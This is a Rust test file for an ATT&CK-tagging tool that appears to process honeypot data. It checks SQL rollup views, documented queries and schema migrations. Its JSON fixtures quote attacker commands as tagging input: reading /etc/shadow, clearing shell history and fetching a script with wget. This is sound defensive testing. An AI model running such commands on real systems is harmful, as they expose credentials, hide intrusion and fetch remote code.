//! The SQL views and ATT&CK tables the migrations create: they equal the
//! library's rollups (which `ttp query` and `ttp serve` answer from), on
//! DECNET's database and on ours; every query in `docs/queries.md` runs on
//! both, and the ones answering the README's questions give the library's
//! answer.

mod common;
mod serve_support;

use rusqlite::Connection;
use std::path::{Path, PathBuf};
use ttp_engine::query::{Reader, RollupRow, Scope, TagFilter, Window};

type Row = (
    String,
    Option<String>,
    Option<String>,
    Option<String>,
    String,
    i64,
    String,
    String,
    f64,
    Option<String>,
);

fn library(rows: Vec<RollupRow>) -> Vec<Row> {
    rows.into_iter()
        .map(|r| {
            (
                r.technique_id,
                r.sub_technique_id,
                r.technique_name,
                r.sub_technique_name,
                r.tactic,
                r.count,
                r.first_seen,
                r.last_seen,
                r.confidence_max,
                r.mitre_url,
            )
        })
        .collect()
}

fn view(conn: &Connection, view: &str, key: Option<(&str, &str)>) -> Vec<Row> {
    let (cond, args): (String, Vec<String>) = match key {
        Some((col, v)) => (format!("WHERE {col} = ?1"), vec![v.to_string()]),
        None => (String::new(), vec![]),
    };
    let sql = format!(
        "SELECT technique_id, sub_technique_id, technique_name, sub_technique_name, tactic, count, \
         first_seen, last_seen, confidence_max, mitre_url FROM {view} {cond} \
         ORDER BY technique_id, sub_technique_id"
    );
    let mut stmt = conn.prepare(&sql).unwrap();
    stmt.query_map(rusqlite::params_from_iter(args), |r| {
        Ok((
            r.get(0)?,
            r.get(1)?,
            r.get(2)?,
            r.get(3)?,
            r.get(4)?,
            r.get(5)?,
            r.get(6)?,
            r.get(7)?,
            r.get(8)?,
            r.get(9)?,
        ))
    })
    .unwrap()
    .collect::<Result<_, _>>()
    .unwrap()
}

fn distinct(conn: &Connection, sql: &str) -> Vec<String> {
    let mut stmt = conn.prepare(sql).unwrap();
    stmt.query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap()
}

/// DECNET's fixture, migrated by opening it as a writer does.
fn decnet_db(dir: &Path) -> PathBuf {
    let db = serve_support::fixture_copy(&common::shared(), dir);
    ttp_engine::store::open(&db, &ttp_engine::store::StoreOptions::default()).unwrap();
    db
}

/// Our own file, written by `ttp tag`.
fn own_db(dir: &Path) -> PathBuf {
    let db = dir.join("own.db");
    own_db_events(&db);
    db
}

/// `ttp tag` of the events of [`own_db`] into `db`.
fn own_db_events(db: &Path) {
    tag(
        db,
        &[
            r#"{"source_kind":"command","source_id":"1","attacker_uuid":"a1","session_id":"s1","payload":{"command_text":"cat /etc/shadow"}}"#,
            r#"{"source_kind":"command","source_id":"2","attacker_uuid":"a1","session_id":"s1","payload":{"command_text":"sudo -l"}}"#,
            r#"{"source_kind":"command","source_id":"3","attacker_uuid":"a2","identity_uuid":"i1","session_id":"s2","payload":{"command_text":"cat /etc/shadow; history -c"}}"#,
            r#"{"source_kind":"command","source_id":"4","identity_uuid":"i1","payload":{"command_text":"wget http://198.51.100.9/x.sh"}}"#,
        ],
    );
}

/// `ttp tag` of `events` into `db`.
fn tag(db: &Path, events: &[&str]) {
    common::ttp_tag(db, events);
}

fn check_views(db: &Path) {
    let conn = Connection::open(db).unwrap();
    let reader = Reader::open(db).unwrap();
    let w = Window::default();
    assert_eq!(
        view(&conn, "ttp_technique_rollup", None),
        library(reader.rollup(&Scope::Fleet, &w).unwrap())
    );
    let mut checked = 0;
    for a in distinct(
        &conn,
        "SELECT DISTINCT attacker_uuid FROM ttp_tag WHERE attacker_uuid IS NOT NULL",
    ) {
        let want = library(reader.rollup(&Scope::Attacker(a.clone()), &w).unwrap());
        assert_eq!(
            view(&conn, "ttp_attacker_rollup", Some(("attacker_uuid", &a))),
            want,
            "{a}"
        );
        checked += 1;
    }
    for s in distinct(
        &conn,
        "SELECT DISTINCT session_id FROM ttp_tag WHERE session_id IS NOT NULL",
    ) {
        let want = library(reader.rollup(&Scope::Session(s.clone()), &w).unwrap());
        assert_eq!(
            view(&conn, "ttp_session_rollup", Some(("session_id", &s))),
            want,
            "{s}"
        );
        checked += 1;
    }
    let mut identities = distinct(
        &conn,
        "SELECT DISTINCT identity_uuid FROM ttp_tag WHERE identity_uuid IS NOT NULL",
    );
    if reader.is_decnet() {
        identities.extend(distinct(&conn, "SELECT uuid FROM attacker_identities"));
    }
    for i in identities {
        let want = library(reader.rollup(&Scope::Identity(i.clone()), &w).unwrap());
        assert_eq!(
            view(&conn, "ttp_identity_rollup", Some(("identity_uuid", &i))),
            want,
            "{i}"
        );
        checked += 1;
    }
    assert!(checked >= 5, "only {checked} scopes checked");
    // The fleet over a window (our file: kept per minute, plus the tags of
    // the partial minutes) equals a scan, from each tag's time on.
    for since in distinct(&conn, "SELECT DISTINCT created_at FROM ttp_tag") {
        let window = Window {
            since: Some(since.clone()),
            ..Window::default()
        };
        assert_eq!(
            from_library_in(db, &window),
            scanned_since(&conn, &since),
            "{since}"
        );
        checked += 1;
    }
    assert!(checked >= 8, "only {checked} windows and scopes checked");
}

#[test]
#[cfg_attr(
    shared_missing,
    ignore = "../shared is absent: DECNET fixtures not available"
)]
fn views_equal_the_library_rollups_on_decnets_database() {
    let work = tempfile::TempDir::new().unwrap();
    check_views(&decnet_db(work.path()));
}

#[test]
fn views_equal_the_library_rollups_on_our_database() {
    let work = tempfile::TempDir::new().unwrap();
    check_views(&own_db(work.path()));
}

/// The ```sql blocks of docs/queries.md, by their `-- name:` line.
fn doc_queries() -> Vec<(String, String)> {
    let doc =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/queries.md"))
            .unwrap();
    let mut out = Vec::new();
    let mut rest = doc.as_str();
    while let Some(start) = rest.find("```sql\n") {
        let body = &rest[start + 7..];
        let end = body.find("```").unwrap();
        let sql = body[..end].to_string();
        let name = sql
            .lines()
            .next()
            .and_then(|l| l.strip_prefix("-- name: "))
            .unwrap_or_else(|| panic!("a query in docs/queries.md without `-- name:`: {sql}"))
            .to_string();
        out.push((name, sql));
        rest = &body[end + 3..];
    }
    out
}

fn run(conn: &Connection, sql: &str) -> Vec<Vec<rusqlite::types::Value>> {
    let mut stmt = conn.prepare(sql).unwrap_or_else(|e| panic!("{e}: {sql}"));
    let n = stmt.column_count();
    stmt.query_map([], |r| (0..n).map(|i| r.get(i)).collect())
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap()
}

#[test]
#[cfg_attr(
    shared_missing,
    ignore = "../shared is absent: DECNET fixtures not available"
)]
fn the_documented_queries_run_and_answer_as_the_library_does() {
    use rusqlite::types::Value as V;
    let work = tempfile::TempDir::new().unwrap();
    let decnet = decnet_db(work.path());
    let own = own_db(work.path());
    let queries = doc_queries();
    assert!(queries.len() >= 9, "{}", queries.len());
    for db in [&decnet, &own] {
        let conn =
            Connection::open_with_flags(db, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY).unwrap();
        for (_, sql) in &queries {
            run(&conn, sql);
        }
    }
    let conn = Connection::open(&decnet).unwrap();
    let reader = Reader::open(&decnet).unwrap();
    let q = |name: &str| run(&conn, &queries.iter().find(|(n, _)| n == name).unwrap().1);
    let text = |v: &V| match v {
        V::Text(s) => Some(s.clone()),
        _ => None,
    };

    // Attacker X: the library's rollup, row for row.
    let a1 = "a0000000-0000-4000-8000-000000000001".to_string();
    let want = reader
        .rollup(&Scope::Attacker(a1.clone()), &Window::default())
        .unwrap();
    let got = q("attacker-rollup");
    assert_eq!(got.len(), want.len());
    for (g, w) in got.iter().zip(&want) {
        assert_eq!(text(&g[0]).unwrap(), w.technique_id);
        assert_eq!(text(&g[1]), w.sub_technique_id);
        assert_eq!(g[3], V::Integer(w.count));
        assert_eq!(text(&g[5]).unwrap(), w.last_seen);
    }
    // Its evidence: the library's newest 20.
    let want = reader
        .tags(&TagFilter {
            attacker: Some(a1),
            limit: Some(20),
            ..TagFilter::default()
        })
        .unwrap();
    let got = q("attacker-evidence");
    assert_eq!(got.len(), want.len());
    assert_eq!(text(&got[0][0]).unwrap(), want[0].created_at);
    // The fleet this week: the library's tags in the same window (our own
    // file's tags are fresh, so this one is never vacuous).
    for db in [&decnet, &own] {
        let conn = Connection::open(db).unwrap();
        let reader = Reader::open(db).unwrap();
        let week = Window::parse(Some("7d"), None, None, time::OffsetDateTime::now_utc()).unwrap();
        let tags = reader
            .tags(&TagFilter {
                window: week,
                ..TagFilter::default()
            })
            .unwrap();
        let mut per_id: std::collections::BTreeMap<String, i64> = Default::default();
        for t in &tags {
            *per_id
                .entry(t.sub_technique_id.clone().unwrap_or(t.technique_id.clone()))
                .or_default() += 1;
        }
        let mut want: Vec<(String, i64)> = per_id.into_iter().collect();
        want.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        want.truncate(10);
        let sql = &queries.iter().find(|(n, _)| n == "fleet-week").unwrap().1;
        let got: Vec<(String, i64)> = run(&conn, sql)
            .iter()
            .map(|r| {
                (
                    text(&r[0]).unwrap(),
                    match r[2] {
                        V::Integer(n) => n,
                        _ => -1,
                    },
                )
            })
            .collect();
        assert_eq!(got, want);
        if db == &own {
            assert!(got.len() >= 3, "{got:?}");
        }
    }
    // The fleet rollup view is the library's.
    assert_eq!(
        q("fleet-rollup").len(),
        reader
            .rollup(&Scope::Fleet, &Window::default())
            .unwrap()
            .len()
    );
    // Names.
    let names = q("names");
    assert_eq!(names.len(), 3);
    assert!(names
        .iter()
        .any(|r| text(&r[2]).as_deref() == Some("Brute Force: Password Guessing")));
}

/// `tests/data/own-schema-5.db`: `ttp tag` of [`own_db`]'s events by the
/// release before partitions (schema 5: one `ttp_tag` table), copied.
fn schema_5_file(dir: &Path) -> PathBuf {
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/own-schema-5.db");
    let db = dir.join("old.db");
    std::fs::copy(&src, &db).unwrap();
    db
}

/// `db` opened by a writing command's store (which migrates it), then read:
/// at this build's schema version.
fn migrated(db: &Path) -> Connection {
    ttp_engine::store::open(db, &ttp_engine::store::StoreOptions::default()).unwrap();
    let c = Connection::open(db).unwrap();
    assert_eq!(
        count(&c, "PRAGMA user_version"),
        ttp_engine::store::SCHEMA_VERSION
    );
    c
}

fn count(c: &Connection, sql: &str) -> i64 {
    c.query_row(sql, [], |r| r.get(0)).unwrap()
}

/// A file written by the release before partitions is migrated in place:
/// its table becomes partition 1 under the view `ttp_tag`, every tag and
/// total kept; later tags go on into it, a replay adds nothing.
#[test]
fn a_file_of_the_previous_release_is_migrated_in_place() {
    let work = tempfile::TempDir::new().unwrap();
    let db = schema_5_file(work.path());
    let c = Connection::open(&db).unwrap();
    assert_eq!(count(&c, "PRAGMA user_version"), 5);
    let before = count(&c, "SELECT count(*) FROM ttp_tag");
    assert!(before >= 3, "{before}");
    let fleet_before = scanned(&c);
    drop(c);
    let c = migrated(&db);
    assert_eq!(
        count(
            &c,
            "SELECT count(*) FROM sqlite_master WHERE type = 'view' AND name = 'ttp_tag'"
        ),
        1
    );
    assert_eq!(count(&c, "SELECT count(*) FROM ttp_tag_p000001"), before);
    assert_eq!(scanned(&c), fleet_before);
    assert_eq!(from_library(&db), fleet_before);
    check_views(&db);
    // The same events again: nothing new; other events: stored.
    own_db_events(&db);
    assert_eq!(count(&c, "SELECT count(*) FROM ttp_tag"), before);
    tag(
        &db,
        &[
            r#"{"source_kind":"command","source_id":"9","attacker_uuid":"a3","payload":{"command_text":"sudo -l"}}"#,
        ],
    );
    assert!(count(&c, "SELECT count(*) FROM ttp_tag") > before);
    assert_eq!(scanned(&c), from_library(&db));
    check_views(&db);
}

/// `tests/data/own-schema-7.db`: `ttp tag` of [`own_db`]'s events by the
/// release before the kept attacker and per-minute rollups (schema 7), three
/// of its four tags then moved by hand (through the view) to 08:00:30,
/// 08:01:00.000000 and 08:02:59.999999.
#[test]
fn a_file_of_schema_7_gets_the_kept_rollups_in_place() {
    let work = tempfile::TempDir::new().unwrap();
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/own-schema-7.db");
    let db = work.path().join("seven.db");
    std::fs::copy(&src, &db).unwrap();
    let c = Connection::open(&db).unwrap();
    assert_eq!(count(&c, "PRAGMA user_version"), 7);
    let partition_triggers = "SELECT count(*) FROM sqlite_master WHERE type = 'trigger' \
                              AND tbl_name LIKE 'ttp_tag_p%'";
    assert_eq!(count(&c, partition_triggers), 2);
    let fleet_before = scanned(&c);
    drop(c);
    let c = migrated(&db);
    // The view's triggers keep the totals now; the live partition has its
    // attacker index in time order.
    assert_eq!(count(&c, partition_triggers), 0);
    assert_eq!(
        count(
            &c,
            "SELECT count(*) FROM pragma_index_list('ttp_tag_p000001') \
             WHERE name = 'ix_ttp_tag_p000001_attacker_created'"
        ),
        1
    );
    assert_eq!(
        count(&c, "SELECT count(*) FROM ttp_technique_minute_totals"),
        4
    );
    assert_eq!(scanned(&c), fleet_before);
    check_views(&db);
    // A hand delete through the view, then new tags: still equal. (The
    // FOREIGN KEY clauses name DECNET's tables, absent here.)
    c.execute_batch(
        "PRAGMA foreign_keys = OFF; \
         DELETE FROM ttp_tag WHERE created_at = '2026-11-29 08:01:00.000000'",
    )
    .unwrap();
    assert_eq!(
        count(&c, "SELECT count(*) FROM ttp_technique_minute_totals"),
        3
    );
    check_views(&db);
    tag(
        &db,
        &[
            r#"{"source_kind":"command","source_id":"9","attacker_uuid":"a1","payload":{"command_text":"sudo -l"}}"#,
        ],
    );
    assert_eq!(scanned(&c), from_library(&db));
    check_views(&db);
}

/// Older still (schema 3: no views, no totals): migrated in place through
/// every step, its tags untouched.
#[test]
fn an_older_file_is_migrated_in_place() {
    let work = tempfile::TempDir::new().unwrap();
    let db = schema_5_file(work.path());
    {
        let c = Connection::open(&db).unwrap();
        c.execute_batch(
            "DROP TRIGGER ttp_tag_totals_delete; \
             DROP TRIGGER ttp_tag_totals_update; DROP TABLE ttp_technique_totals; \
             DROP VIEW ttp_tag_named; DROP VIEW ttp_technique_rollup; DROP VIEW ttp_attacker_rollup; \
             DROP VIEW ttp_session_rollup; DROP VIEW ttp_identity_rollup; DROP TABLE ttp_attack_release; \
             DROP TABLE ttp_attack_tactic; DROP TABLE ttp_attack_technique; PRAGMA user_version = 3;",
        )
        .unwrap();
    }
    let before: i64 = count(
        &Connection::open(&db).unwrap(),
        "SELECT count(*) FROM ttp_tag",
    );
    let c = migrated(&db);
    assert_eq!(count(&c, "SELECT count(*) FROM ttp_tag_named"), before);
    check_views(&db);
    // A stale ATT&CK release is replaced on the next open.
    c.execute_batch("UPDATE ttp_attack_release SET release = 'enterprise-attack-v1'; DELETE FROM ttp_attack_technique")
        .unwrap();
    ttp_engine::store::open(&db, &ttp_engine::store::StoreOptions::default()).unwrap();
    assert!(count(&c, "SELECT count(*) FROM ttp_attack_technique") > 800);
}

/// A fleet rollup row: technique, sub-technique, tactic, count, first and
/// last seen, highest confidence.
type Fleet = Vec<(String, Option<String>, String, i64, String, String, f64)>;

/// The fleet rollup as a scan of every tag computes it.
fn scanned(conn: &Connection) -> Fleet {
    scanned_since(conn, "")
}

/// The fleet rollup of the tags created at or after `since`, scanned.
fn scanned_since(conn: &Connection, since: &str) -> Fleet {
    let mut stmt = conn
        .prepare(
            "SELECT technique_id, sub_technique_id, MAX(tactic), COUNT(*), MIN(created_at), \
             MAX(created_at), MAX(confidence) FROM ttp_tag WHERE created_at >= ?1 \
             GROUP BY technique_id, sub_technique_id ORDER BY technique_id, sub_technique_id",
        )
        .unwrap();
    stmt.query_map([since], |r| {
        Ok((
            r.get(0)?,
            r.get(1)?,
            r.get(2)?,
            r.get(3)?,
            r.get(4)?,
            r.get(5)?,
            r.get(6)?,
        ))
    })
    .unwrap()
    .collect::<Result<_, _>>()
    .unwrap()
}

fn from_library(db: &Path) -> Fleet {
    from_library_in(db, &Window::default())
}

fn from_library_in(db: &Path, window: &Window) -> Fleet {
    Reader::open(db)
        .unwrap()
        .rollup(&Scope::Fleet, window)
        .unwrap()
        .into_iter()
        .map(|r| {
            (
                r.technique_id,
                r.sub_technique_id,
                r.tactic,
                r.count,
                r.first_seen,
                r.last_seen,
                r.confidence_max,
            )
        })
        .collect()
}

/// Our file keeps the fleet rollup in a table (the writer adds its new
/// tags, triggers redo the groups a delete or an update touches); it stays
/// equal to a scan through new and repeated tags, deletes and updates.
#[test]
fn the_kept_fleet_rollup_equals_a_scan() {
    let work = tempfile::TempDir::new().unwrap();
    let db = own_db(work.path());
    let conn = Connection::open(&db).unwrap();
    // (The FOREIGN KEY clauses name DECNET's tables, absent here.)
    conn.execute_batch("PRAGMA foreign_keys = OFF").unwrap();
    let check = |what: &str| assert_eq!(from_library(&db), scanned(&conn), "{what}");
    check("after ttp tag");
    assert!(scanned(&conn).len() >= 3);
    // The same events again (nothing new) and two new ones.
    let before = from_library(&db);
    own_db(work.path());
    assert_eq!(from_library(&db), before, "repeated tags counted twice");
    tag(
        &db,
        &[
            r#"{"source_kind":"command","source_id":"9","attacker_uuid":"a9","payload":{"command_text":"cat /etc/shadow"}}"#,
            r#"{"source_kind":"command","source_id":"10","attacker_uuid":"a9","payload":{"command_text":"sudo -l"}}"#,
        ],
    );
    check("after new tags");
    assert_ne!(from_library(&db), before);
    let one: String = conn
        .query_row("SELECT uuid FROM ttp_tag ORDER BY uuid LIMIT 1", [], |r| {
            r.get(0)
        })
        .unwrap();
    conn.execute("DELETE FROM ttp_tag WHERE uuid = ?1", [&one])
        .unwrap();
    check("after a delete");
    conn.execute_batch(
        "UPDATE ttp_tag SET technique_id = 'T1078', sub_technique_id = NULL, \
         created_at = '2030-01-01 00:00:00.000000' \
         WHERE uuid = (SELECT max(uuid) FROM ttp_tag)",
    )
    .unwrap();
    check("after an update");
    conn.execute_batch("DELETE FROM ttp_tag").unwrap();
    check("after deleting everything");
    assert!(from_library(&db).is_empty());
}
